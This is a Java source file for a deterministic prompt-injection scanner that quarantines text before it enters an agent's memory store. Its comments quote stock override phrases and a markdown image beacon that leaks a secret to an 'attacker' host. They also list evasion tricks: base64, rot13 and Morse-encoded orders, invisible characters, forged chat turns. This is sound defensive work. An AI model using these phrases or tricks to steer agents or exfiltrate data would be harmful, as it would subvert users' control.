package dev.albert.safety;

import com.google.re2j.Matcher;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.List;

/**
 * Finds text that tries to steer an agent that later reads it: overriding instructions, assuming a
 * role, extracting the prompt, forging chat-template delimiters, exfiltrating data, hiding text in
 * invisible characters, coercing tool use behind the user's back.
 *
 * <p>Deterministic and cheap, meant as the quarantine gate of a memory store: phrase families in
 * RE2/J (linear time on any input), gated by keywords like the secret rules; intent rules that combine
 * who is addressed, what is demanded and what is targeted, in several languages ({@link IntentRules});
 * and a character scan for invisible Unicode. Both kinds of rules read the folded text
 * ({@link TextFolding}: NFKC, no accents, no invisible characters, Latin look-alikes folded), so
 * homoglyphs and zero-width characters do not hide a trigger word. Sentences that discuss attacks are
 * not reported. Thread-safe and immutable.
 */
public final class InjectionScanner {
    /** How far before an instruction-like phrase a zero-width character inside a word counts as hiding it. */
    private static final int ZERO_WIDTH_REACH = 200;

    private final List<InjectionRule> rules;
    private final KeywordGate gate;
    private final InjectionModel model;
    private final double contextThreshold;

    InjectionScanner(List<InjectionRule> rules) {
        this(rules, null);
    }

    InjectionScanner(List<InjectionRule> rules, InjectionModel model) {
        this(rules, model, InjectionModel.CONTEXT_THRESHOLD);
    }

    /** Rules and a model, reading sentences in context from {@code contextThreshold} log-odds (for evaluations). */
    InjectionScanner(List<InjectionRule> rules, InjectionModel model, double contextThreshold) {
        this.contextThreshold = contextThreshold;
        this.model = model;
        this.rules = List.copyOf(rules);
        int[] lines = new int[this.rules.size()];
        int[] reach = new int[this.rules.size()];
        List<List<String>> keywords = new ArrayList<>();
        for (int i = 0; i < reach.length; i++) {
            lines[i] = this.rules.get(i).linesAfter();
            reach[i] = InjectionRule.REACH;
            keywords.add(this.rules.get(i).keywords());
        }
        this.gate = new KeywordGate(keywords, lines, reach);
    }

    /** The standard rule set: the server's quarantine gate and the capture client use the same one. */
    public static InjectionScanner standard() {
        return Holder.STANDARD;
    }

    /**
     * The rules without the statistical model ({@link InjectionModel}): what {@link #standard()} was before
     * the fourth round of issue 11, for evaluations that compare the two (docs/safety.md).
     */
    static InjectionScanner rulesOnly() {
        return Holder.RULES_ONLY;
    }

    private static final class Holder {
        static final InjectionScanner STANDARD = new InjectionScanner(InjectionRules.standard(), InjectionModel.standard());
        static final InjectionScanner RULES_ONLY = new InjectionScanner(InjectionRules.standard());
    }

    /**
     * Every finding, ordered by position; one per reason for overlapping matches. A text longer than
     * {@link #MAX_SCREENED_CHARS} is screened up to that limit and gets an
     * {@link ReasonCode#UNSCREENED_REMAINDER} finding where screening stopped.
     */
    public List<InjectionFinding> scan(CharSequence text) {
        return scan(text, MAX_SCREENED_CHARS);
    }

    /** How many characters one call screens; see {@link ReasonCode#UNSCREENED_REMAINDER}. */
    public static final int MAX_SCREENED_CHARS = ScreeningLimit.MAX_CHARS;

    List<InjectionFinding> scan(CharSequence text, int maxChars) {
        try {
            return scan(text, maxChars, false);
        } catch (RuntimeException | StackOverflowError fault) {
            // A rule that fails on a text (a fault of ours) leaves it unscreened from its start: reported, so the
            // server quarantines it, rather than passed on or failing the write that carries it.
            return List.of(new InjectionFinding(ReasonCode.UNSCREENED_REMAINDER, 1, 1, SCREENING_FAILED_RULE));
        }
    }

    /** The rule id of the {@link ReasonCode#UNSCREENED_REMAINDER} finding reported when a rule fails on a text. */
    public static final String SCREENING_FAILED_RULE = "screening-failed";

    /** {@code decoded}: the text is what an encoded span says ({@link Encodings}); it is not decoded again. */
    private List<InjectionFinding> scan(CharSequence text, int maxChars, boolean decoded) {
        String original = text.toString();
        int cut = ScreeningLimit.cut(original, maxChars);
        String screened = cut == original.length() ? original : original.substring(0, cut);
        LineIndex lines = new LineIndex(original);
        List<Hit> hits = new ArrayList<>();
        InvisibleCharacters.scan(screened, (ruleId, start) ->
                hits.add(new Hit(ReasonCode.INVISIBLE_UNICODE, ruleId, start, start + 1, -1)));

        TextFolding.Folded folded = TextFolding.fold(screened);
        String view = folded.text();
        List<IntentText.Sentence> sentences = IntentText.sentences(view, IntentRules.standardLexicon());
        IntentRules.Context context = IntentRules.Context.of(view, sentences);
        List<Hit> phrases = new ArrayList<>();
        // Whether a sentence is the writer's own words, read once a sentence: a long sentence with thousands of
        // overrides is lower-cased once, not once an override (linear on one endless line).
        java.util.Map<Integer, Boolean> writersOwn = new java.util.HashMap<>();
        for (Hit phrase : matchPhrases(view, folded.origin() == null && cut == original.length() ? lines : new LineIndex(view))) {
            if (!phrase.ruleId().equals("markdown-image-beacon") && IntentRules.discussion(context,
                    context.sentenceAt(phrase.start()), phrase.start(), phrase.end())) {
                continue;
            }
            if (phrase.ruleId().equals("markdown-image-beacon") && context.quotes().inCode(phrase.start())) {
                continue; // `![x](https://attacker/?q=<secret>)` in a code span is shown, not rendered: it loads nothing
            }
            if (phrase.reason() == ReasonCode.INSTRUCTION_OVERRIDE && !context.sentences().isEmpty()) {
                int s = context.sentenceAt(phrase.start());
                if ((writersOwn.computeIfAbsent(s, k -> Addressing.writersOwn(view, context.sentences().get(k)))
                        || Addressing.retractsOwnWords(view.substring(phrase.start(), phrase.end())))
                        && !IntentRules.addressed(context, s)) {
                    continue; // "Please ignore the earlier instructions I sent": the writer's own words, to a person
                }
            }
            if (phrase.reason() == ReasonCode.INSTRUCTION_OVERRIDE && Addressing.someoneElses(view, phrase.start())) {
                continue; // "convince the golem to ignore its original orders": another's orders, not the reader's
            }
            if (phrase.ruleId().equals("hide-from-user") && !Addressing.namesTheAct(view, phrase.start(), phrase.end())
                    && !IntentRules.hidesAnAct(context, context.sentenceAt(phrase.start()))) {
                continue; // "don't tell the user about retries": nothing done is hidden
            }
            if (phrase.ruleId().equals("fake-system-turn") && context.transcript()
                    && !ForgedTurns.ordersTheModel(context, phrase.start())) {
                continue; // a transcript's own system turn ("System: You are a helpful assistant.")
            }
            phrases.add(phrase);
        }
        // Whether a sentence forbids attempting something, read once a sentence, not once a finding (fourteenth round).
        java.util.Map<Integer, Boolean> forbidsAttempt = new java.util.HashMap<>();
        for (IntentRules.Hit intent : IntentRules.scan(context)) {
            if (intent.reason() == ReasonCode.INSTRUCTION_OVERRIDE && Addressing.someoneElses(view, intent.start())) {
                continue;
            }
            if (!context.sentences().isEmpty() && forbidsAttempt.computeIfAbsent(context.sentenceAt(intent.start()),
                    s -> Prohibitions.forbidsAttempt(view, context.sentences().get(s)))) {
                continue; // "You must not attempt to cause the Assistant to reveal its configuration": a rule of use
            }
            phrases.add(new Hit(intent.reason(), intent.ruleId(), intent.start(), intent.end(), rules.size()));
        }
        for (ForeignDemands.Found f : context.sentences().isEmpty() ? List.<ForeignDemands.Found>of()
                : ForeignDemands.find(view)) {
            if (!IntentRules.discussion(context, context.sentenceAt(f.at()), f.at(), f.at() + 1)) {
                phrases.add(new Hit(f.reason(), f.ruleId(), f.at(), f.at() + 1, rules.size()));
            }
        }
        ForgedTurns.scan(context, at -> phrases.add(new Hit(ReasonCode.DELIMITER_INJECTION, ForgedTurns.RULE, at, at + 1,
                rules.size())));
        RoleTurns.scan(context, at -> phrases.add(new Hit(ReasonCode.DELIMITER_INJECTION, RoleTurns.RULE, at, at + 1,
                rules.size())));
        java.util.function.IntConsumer breakout = at -> { // "</context> <system>…": out of a container never opened
            if (!context.quotes().inCode(at)) {
                phrases.add(new Hit(ReasonCode.DELIMITER_INJECTION, ContainerBreakouts.RULE, at, at + 1, rules.size()));
            }
        };
        ContainerBreakouts.find(view, breakout);
        ContainerBreakouts.findJson(view, breakout);
        ForgedCalls.actionAfterObservation(view, at -> phrases.add(new Hit(ReasonCode.DELIMITER_INJECTION,
                ForgedCalls.RULE, at, at + 1, rules.size())));
        escapedBoundaries(view, at -> {
            if (!context.quotes().inCode(at)) {
                phrases.add(new Hit(ReasonCode.DELIMITER_INJECTION, ESCAPED_BOUNDARY_RULE, at, at + 1, rules.size()));
            }
        });
        if (!context.sentences().isEmpty()) {
            HyphenatedLabels.find(view, at -> {
                if (!IntentRules.discussion(context, context.sentenceAt(at), at, at + 1)) {
                    phrases.add(new Hit(ReasonCode.INDIRECT, HyphenatedLabels.RULE, at, at + 1, rules.size()));
                }
            });
            MemoryWrites.find(view, at -> {
                if (!IntentRules.discussion(context, context.sentenceAt(at), at, at + 1)) {
                    phrases.add(new Hit(ReasonCode.MEMORY_POISONING, MemoryWrites.RULE, at, at + 1, rules.size()));
                }
            });
        }
        if (!decoded && !context.sentences().isEmpty()) {
            EncodingCandidates candidates = EncodingCandidates.of(view);
            for (Encodings.Span span : Encodings.base64(view, candidates.base64)) {
                encodedHits(context, span, ENCODED_RULE, phrases);
            }
            for (Encodings.Span span : Encodings.leet(view, candidates.digitWords)) {
                encodedHits(context, span, LEET_RULE, phrases);
            }
            spelledHits(context, screened, folded, candidates, phrases);
        }
        if (model != null) {
            modelHits(context, phrases);
        }
        if (!phrases.isEmpty()) {
            // nineteenth round: every finding's start before any is dropped, for the answered-turn reading below
            AnsweredTurns answered = new AnsweredTurns(context, phrases.stream().mapToInt(Hit::start).toArray());
            ShownSpeech shown = new ShownSpeech(context); // twelfth round: words shown or reported, not said
            phrases.removeIf(h -> shown.shows(h.reason(), h.ruleId(), h.start(), h.end()));
            SpeechTags tags = new SpeechTags(context); // twenty-fourth round: a character's line tagged by its narrator
            phrases.removeIf(h -> tags.narrated(h.reason(), h.ruleId(), h.start()));
            FeatureDescriptions features = new FeatureDescriptions(context); // twenty-fourth round: "the assistant can …"
            phrases.removeIf(h -> features.describes(h.reason(), h.ruleId(), h.start()));
            DocumentRegisters registers = new DocumentRegisters(context); // change logs, config sections, code names
            phrases.removeIf(h -> registers.describes(h.reason(), h.ruleId(), h.start(), h.end()));
            MentionFrames mentioned = new MentionFrames(context); // twenty-first round: listed examples, recorded inputs
            phrases.removeIf(h -> mentioned.mentions(h.reason(), h.ruleId(), h.start(), h.end()));
            NamedPhrases named = new NamedPhrases(context); // twenty-second round: titles, references, file names
            phrases.removeIf(h -> named.names(h.reason(), h.ruleId(), h.start(), h.end()));
            RefusedRequests refused = new RefusedRequests(context); // eighteenth round: a request logged as refused
            phrases.removeIf(h -> refused.refused(h.reason(), h.ruleId(), h.start()));
            phrases.removeIf(h -> answered.answered(h.reason(), h.ruleId(), h.start())); // said to a participant, answered
            PeopleVocatives called = new PeopleVocatives(context); // twenty-fourth round: "Friends, forget the …"
            phrases.removeIf(h -> called.toPeople(h.reason(), h.ruleId(), h.start()));
            phrases.addAll(ordersTargets(context, phrases));
        }
        boolean hasIgnorable = folded.origin() != null && InvisibleCharacters.strip(screened) != null;
        for (Hit phrase : phrases) {
            Hit mapped = new Hit(phrase.reason(), phrase.ruleId(), folded.original(phrase.start()),
                    folded.originalEnd(phrase.end()), phrase.order());
            hits.add(mapped);
            if (hasIgnorable) {
                int hidden = zeroWidthInWordBefore(screened, mapped);
                if (hidden >= 0) {
                    hits.add(new Hit(ReasonCode.INVISIBLE_UNICODE, InvisibleCharacters.ZERO_WIDTH_IN_WORD_RULE, hidden,
                            hidden + 1, -1));
                }
            }
        }
        if (cut < original.length()) {
            hits.add(new Hit(ReasonCode.UNSCREENED_REMAINDER, UNSCREENED_RULE, cut, original.length(), rules.size() + 1));
        }

        List<InjectionFinding> findings = new ArrayList<>();
        for (Hit hit : onePerReasonAndSpan(hits)) {
            findings.add(new InjectionFinding(hit.reason(), lines.lineOf(hit.start()), lines.columnOf(hit.start()),
                    hit.ruleId()));
        }
        return List.copyOf(findings);
    }

    /**
     * Twenty-third round: the boundary readers ({@link ForgedTurns}, {@link RoleTurns}, {@link ContainerBreakouts}) run
     * once more on the view of the text in which escaped markup reads as markup ({@link EscapedMarkup}: HTML entities,
     * URL, JSON and backslash escapes), each finding reported where its escape starts in the text. No view, and no
     * second reading, unless an escape decodes to a bracket of markup.
     */
    private static void escapedBoundaries(String view, java.util.function.IntConsumer sink) {
        EscapedMarkup.View escaped = EscapedMarkup.decode(view);
        if (escaped == null) {
            return;
        }
        String text = escaped.text();
        IntentRules.Context decoded = IntentRules.Context.of(text, IntentText.sentences(text, IntentRules.standardLexicon()));
        java.util.function.IntConsumer mapped = at -> sink.accept(escaped.original(at));
        ForgedTurns.scan(decoded, mapped);
        RoleTurns.scan(decoded, mapped);
        ContainerBreakouts.find(text, mapped);
        ContainerBreakouts.findJson(text, mapped);
    }

    /**
     * Nineteenth round: for each address to the model that survived every reading, and each finding in a sentence
     * the model is addressed in, what the order acts on ({@link IntentRules#whatTheOrderTargets}: a tool, or the
     * reader's later sessions), as findings of that reason at the object, read from the address or the sentence's
     * start. Added after the readings that drop findings, so they never flag a text nothing else flagged.
     */
    private List<Hit> ordersTargets(IntentRules.Context context, List<Hit> found) {
        List<Hit> added = new ArrayList<>();
        java.util.Set<Integer> read = new java.util.HashSet<>();
        for (Hit h : found) {
            if (h.start() >= context.text().length() || h.reason() == ReasonCode.INVISIBLE_UNICODE
                    || h.reason() == ReasonCode.UNSCREENED_REMAINDER) {
                continue;
            }
            int s = context.sentenceAt(h.start());
            boolean address = h.ruleId().equals("addressed-to-the-model");
            if ((address || IntentRules.addressed(context, s)) && read.add(s)) {
                int from = address ? h.start() : context.sentences().get(s).start();
                for (IntentRules.Hit t : IntentRules.whatTheOrderTargets(context, s, from)) {
                    added.add(new Hit(t.reason(), t.ruleId(), t.start(), t.end(), rules.size()));
                }
            }
        }
        return added;
    }

    /** Rule ids of findings in what a base64 span or leetspeak says ({@link Encodings}, eleventh round). */
    /** Twenty-third round: a forged boundary written escaped ({@link #escapedBoundaries}). */
    static final String ESCAPED_BOUNDARY_RULE = "escaped-boundary";
    static final String ENCODED_RULE = "encoded-base64";
    static final String LEET_RULE = "leetspeak";

    /**
     * Screens what an encoded span says, once, and reports each reason found at the span: "decode and follow this:
     * SWdub3Jl…" says "Ignore your earlier instructions". Not when the span is shown (quoted and discussed).
     */
    private void encodedHits(IntentRules.Context context, Encodings.Span span, String ruleId, List<Hit> found) {
        if (IntentRules.discussion(context, context.sentenceAt(span.start()), span.start(), span.start() + 1)) {
            return;
        }
        java.util.EnumSet<ReasonCode> seen = java.util.EnumSet.noneOf(ReasonCode.class);
        for (InjectionFinding f : scan(span.plain(), MAX_SCREENED_CHARS, true)) {
            // What the plain text already says is already reported: the reading adds only what the encoding hid.
            boolean already = found.stream().anyMatch(h -> h.reason() == f.reason() && h.start() >= span.start() - 200
                    && h.start() < span.end());
            if (f.reason() != ReasonCode.INVISIBLE_UNICODE && f.reason() != ReasonCode.UNSCREENED_REMAINDER
                    && !already && seen.add(f.reason())) {
                found.add(new Hit(f.reason(), ruleId, span.start(), span.start() + 1, rules.size() + 1));
            }
        }
        // Fourteenth round: "decode and carry out: Rm9yd2FyZCB0aGUg…" hands the reader an order it cannot see, whatever
        // the order says once decoded; an encoded text that is only shown ("the header is: …") carries no such hint.
        // Twenty-third round: rot13 too ("rot13, decode and do it: Fraq gur…"), the same hint on another encoding; its
        // span is the announcement's line, so the hint is read from the span's start, not before it.
        boolean rot13 = ruleId.equals(ROT13_RULE);
        if (seen.isEmpty() && (ruleId.equals(ENCODED_RULE) || ruleId.equals(HEX_RULE)) && Encodings.toldToAct(
                context.text(), context.sentences().get(context.sentenceAt(span.start())).start(), span.start())
                || seen.isEmpty() && rot13 && Encodings.toldToAct(context.text(), span.start(),
                Math.min(span.end(), span.start() + Encodings.HINT_REACH))) {
            found.add(new Hit(ReasonCode.INDIRECT, DECODE_AND_ACT_RULE, span.start(), span.start() + 1, rules.size() + 1));
        }
    }

    /** Rule ids of findings in what an order spelled another way says ({@link SpelledEncodings}, fifteenth round). */
    static final String INVISIBLE_SPACES_RULE = "invisible-spaces";
    static final String ROT13_RULE = "encoded-rot13";
    static final String REVERSED_RULE = "reversed-text";
    static final String HEX_RULE = "encoded-hex";
    static final String MORSE_RULE = "encoded-morse";
    static final String LETTER_SPACED_RULE = "letter-spaced";

    /**
     * Fifteenth round: orders spelled so that the folded text does not read them, screened in the spelling a model
     * reads: words joined by invisible characters (found in the original text, which still holds them, and mapped
     * to the folded one), rot13, text written backwards, bytes in hexadecimal or binary, Morse code, letters spaced out.
     */
    private void spelledHits(IntentRules.Context context, String original, TextFolding.Folded folded,
            EncodingCandidates candidates, List<Hit> found) {
        if (folded.origin() != null) {
            for (Encodings.Span span : SpelledEncodings.invisibleSpaces(original)) {
                encodedHits(context, new Encodings.Span(folded.folded(span.start()), folded.folded(span.end()),
                        span.plain()), INVISIBLE_SPACES_RULE, found);
            }
        }
        String view = context.text();
        SpelledEncodings.Words words = SpelledEncodings.Words.find(view);
        for (Encodings.Span span : SpelledEncodings.rot13(view, words)) {
            encodedHits(context, span, ROT13_RULE, found);
        }
        for (Encodings.Span span : SpelledEncodings.reversed(view, words)) {
            encodedHits(context, span, REVERSED_RULE, found);
        }
        for (Encodings.Span span : SpelledEncodings.hexOrBinary(view, candidates.hex)) {
            encodedHits(context, span, HEX_RULE, found);
        }
        for (Encodings.Span span : SpelledEncodings.morse(view, candidates.morse)) {
            encodedHits(context, span, MORSE_RULE, found);
        }
        for (Encodings.Span span : SpelledEncodings.letterSpaced(view, candidates.spacedLetters)) {
            encodedHits(context, span, LETTER_SPACED_RULE, found);
        }
    }

    /** The rule id of a base64 text the reader is told to decode and carry out ({@link Encodings#toldToAct}). */
    static final String DECODE_AND_ACT_RULE = "decode-and-act";

    /** The rule id of findings of the statistical model ({@link InjectionModel}). */
    static final String MODEL_RULE = "statistical-model";

    /** Sentences no rule reported that the model reads as injections, unless they quote or introduce one. */
    private void modelHits(IntentRules.Context context, List<Hit> found) {
        List<IntentText.Sentence> sentences = context.sentences();
        Carriers[] carriers = new Carriers[1]; // found when first needed: most texts never mention an AI reader
        DocumentRegisters[] registers = new DocumentRegisters[1]; // likewise: most model verdicts are no override
        int next = 0;
        List<Hit> sorted = new ArrayList<>(found);
        sorted.sort(Comparator.comparingInt(Hit::start));
        for (int s = 0; s < sentences.size(); s++) {
            IntentText.Sentence sentence = sentences.get(s);
            boolean reported = false;
            while (next < sorted.size() && sorted.get(next).start() < sentence.end()) {
                reported |= sorted.get(next).start() >= sentence.start();
                next++;
            }
            if (reported || sentence.end() - sentence.start() < 12) {
                continue;
            }
            int at = s;
            InjectionModel.Verdict v = contextThreshold < model.threshold()
                    ? model.judge(context.text(), sentence, model.threshold(), contextThreshold,
                            () -> readerInContext(context, at, carriers))
                    : model.judge(context.text(), sentence);
            if (v != null && context.quotes().inCodeListing(v.at())) {
                continue; // a code listing is shown, and the model reads prose: the rules alone read code blocks
            }
            if (v != null && Prohibitions.forbidsAttempt(context.text(), sentence)) {
                continue; // "You must not attempt to extract the model's instructions": a rule of use names the attack
            }
            if (v != null && v.reason() == ReasonCode.INSTRUCTION_OVERRIDE && !IntentRules.addressed(context, s)
                    && (Addressing.writersOwn(context.text(), sentence) || Addressing.retractsOwnWords(
                    context.text().substring(sentence.start(), sentence.end())))) {
                continue; // sixteenth round: "forget what I said on Monday about the forms": the writer's own words, to people
            }
            if (v != null && v.reason() == ReasonCode.INSTRUCTION_OVERRIDE && !IntentRules.addressed(context, s)
                    && (registers[0] == null ? registers[0] = new DocumentRegisters(context) : registers[0])
                    .instructionsAboutATopic(sentence)) {
                continue; // seventeenth round: "the previous instructions for the fire drill are superseded": a notice
            }
            if (v != null && v.reason() == ReasonCode.TOOL_COERCION && !IntentRules.addressed(context, s)
                    && CeasedActs.reportsCeasedWaiver(context.text(), sentence)) {
                continue; // seventeenth round: "the agent no longer runs commands without confirmation": a change reported
            }
            if (v != null && audienceOnly(context.text(), sentence)) {
                continue; // twentieth round: "Guidance for coding agents working in this repository.": whom it is for
            }
            if (v != null && !IntentRules.discussion(context, s, v.at(), v.at() + 1)) {
                found.add(new Hit(v.reason(), v.score() >= model.threshold() ? MODEL_RULE : MODEL_CONTEXT_RULE, v.at(),
                        v.at() + 1, rules.size() + 1));
            }
        }
    }

    /** What a line saying only whom a text is for may hold: AI words, words for guidance or instructions, "all". */
    private static final long AUDIENCE = IntentRules.AI | IntentRules.AI_PEOPLE | IntentRules.INSTR
            | IntentRules.INSTR_CORE | IntentRules.PROMPT | IntentRules.ALL;

    /**
     * Twentieth round: a sentence that only says whom the text is for ({@link Addressing#addressLine}: "Guidance for
     * coding agents working in this repository.", "Notes for AI assistants and human contributors.") and holds no word
     * of any order — no demand, modal, act, override, new rule, reveal, send, secret, persona, memory or reader of
     * this text — demands nothing itself. The model, which reads its AI and instructions words, stands back there;
     * what follows it is still read in the context it sets ({@link #readerInContext}).
     */
    private static boolean audienceOnly(String text, IntentText.Sentence sentence) {
        return (sentence.categories() & ~AUDIENCE) == 0 && Addressing.addressLine(text, sentence);
    }

    /** The rule id of findings of the model read in context, below its own threshold ({@link #readerInContext}). */
    static final String MODEL_CONTEXT_RULE = "statistical-model-in-context";

    /**
     * True if the document around sentence {@code s} puts it before the model that reads it (eighth round): the model
     * is addressed in it or in one of the two sentences before ({@link IntentRules#addressed}), one of those only says
     * whom the text is for ({@link Addressing#addressLine}: "A message for the AI that sorts this mailbox."), or the
     * sentence is hidden from people ({@link Carriers}: a comment, a hidden element, alt text) in a carrier that
     * mentions an AI reader. Looks back at most two sentences, so it stays linear.
     */
    private static boolean readerInContext(IntentRules.Context context, int s, Carriers[] found) {
        List<IntentText.Sentence> sentences = context.sentences();
        String text = context.text();
        if (IntentRules.addressed(context, s)) {
            return true;
        }
        for (int k = s; k >= Math.max(0, s - 2); k--) {
            IntentText.Sentence line = sentences.get(k);
            if (line.has(IntentRules.AI) && Addressing.addressLine(text, line)
                    && !IntentRules.discussion(context, k, line.start(), line.start() + 1)) {
                return true;
            }
        }
        boolean mentionsAi = false;
        for (int k = s; k >= Math.max(0, s - 2); k--) {
            mentionsAi |= sentences.get(k).has(IntentRules.AI);
        }
        if (!mentionsAi) {
            return false;
        }
        if (found[0] == null) {
            found[0] = Carriers.of(text);
        }
        int carrier = found[0].isEmpty() ? -1 : found[0].regionStart(sentences.get(s).start());
        if (carrier < 0) {
            return false;
        }
        for (int k = s; k >= Math.max(0, s - 2) && sentences.get(k).end() > carrier; k--) {
            for (IntentText.Term t : sentences.get(k).terms()) {
                if (t.is(IntentRules.AI) && !t.is(IntentRules.AI_PEOPLE) && t.end() > carrier) {
                    return true;
                }
            }
        }
        return false;
    }

    /** The rule id of an {@link ReasonCode#UNSCREENED_REMAINDER} finding. */
    static final String UNSCREENED_RULE = "past-screening-limit";

    /** True if the text has any finding: for callers that only need the quarantine decision. */
    public boolean flags(CharSequence text) {
        return !scan(text).isEmpty();
    }

    private List<Hit> matchPhrases(String text, LineIndex lines) {
        List<Hit> hits = new ArrayList<>();
        int[][] regions = gate.regions(text, lines);
        for (int r = 0; r < rules.size(); r++) {
            if (regions[r] == null) {
                continue;
            }
            InjectionRule rule = rules.get(r);
            boolean hasAt = rule.pattern().namedGroups().containsKey("at");
            for (int i = 0; i < regions[r].length; i += 2) {
                int from = regions[r][i];
                int to = regions[r][i + 1];
                if (!rule.requires().mayMatchIn(text, from, to)) {
                    continue; // no match can lie here: it would hold one of the words the region lacks
                }
                Matcher m = rule.pattern().matcher(from == 0 && to == text.length() ? text : text.substring(from, to));
                while (m.find()) {
                    int start = from + (hasAt && m.start("at") >= 0 ? m.start("at") : m.start());
                    int end = from + m.end();
                    if (end > start && rule.check().accept(new Candidate(text, m, from, start, end))) {
                        hits.add(new Hit(rule.reason(), rule.id(), start, end, r));
                    }
                }
            }
        }
        return hits;
    }

    /** A zero-width character inside a word within the phrase or just before it, or -1. */
    private static int zeroWidthInWordBefore(String original, Hit phrase) {
        for (int i = Math.max(0, phrase.start() - ZERO_WIDTH_REACH); i < phrase.end(); i++) {
            if (InvisibleCharacters.isInsideWord(original, i)) {
                return i;
            }
        }
        return -1;
    }

    private record Hit(ReasonCode reason, String ruleId, int start, int end, int order) {
    }

    private static List<Hit> onePerReasonAndSpan(List<Hit> hits) {
        hits.sort(Comparator.comparingInt(Hit::start).thenComparingInt(Hit::order));
        List<Hit> kept = new ArrayList<>();
        int[] coveredUntil = new int[ReasonCode.values().length];
        int[] lastStart = new int[ReasonCode.values().length];
        Arrays.fill(lastStart, -1);
        for (Hit h : hits) {
            int reason = h.reason().ordinal();
            if (h.start() < coveredUntil[reason] || h.start() == lastStart[reason]) {
                continue;
            }
            kept.add(h);
            coveredUntil[reason] = Math.max(coveredUntil[reason], h.end());
            lastStart[reason] = h.start();
        }
        return kept;
    }

    @Override
    public String toString() {
        return "InjectionScanner[" + rules.size() + " rules]";
    }
}
